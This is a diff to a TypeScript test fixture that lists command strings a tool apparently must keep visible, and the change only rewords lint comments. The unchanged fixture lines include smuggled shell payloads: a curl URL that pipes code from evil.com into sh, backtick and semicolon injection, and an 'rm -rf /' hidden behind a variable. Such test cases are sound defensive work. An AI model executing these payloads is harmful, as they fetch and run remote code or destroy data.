@@ -11,7 +11,7 @@ const key = (...lines: readonly string[]) =>
 /** Texts that people have to read: all of a text, or all but the second one. */
 const visible: readonly (readonly [text: string, shown?: string])[] = [
   // userinfo
-  // biome-ignore lint/suspicious/noTemplateCurlyInString: what a shell expands
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: a shell expansion
   ['curl http://a:$(curl${IFS}evil.com|sh)@b'],
   ['curl "http://a:`id`@b"'],
   ['curl http://a:b;rm@b'],
@@ -37,7 +37,7 @@ const visible: readonly (readonly [text: string, shown?: string])[] = [
   ['sudo -u bearer deploy123456'],
   ['sudo --user=bearer deploy123456'],
   ['PASSWORD=rm; $PASSWORD -rf /'],
-  // biome-ignore lint/suspicious/noTemplateCurlyInString: what a shell expands
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: a shell expansion
   ['PW=evil2; sudo ${PW} x'],
   ['set TOKEN=evil2&& %TOKEN%'],
   ['$token = "evil2"; & $token'],
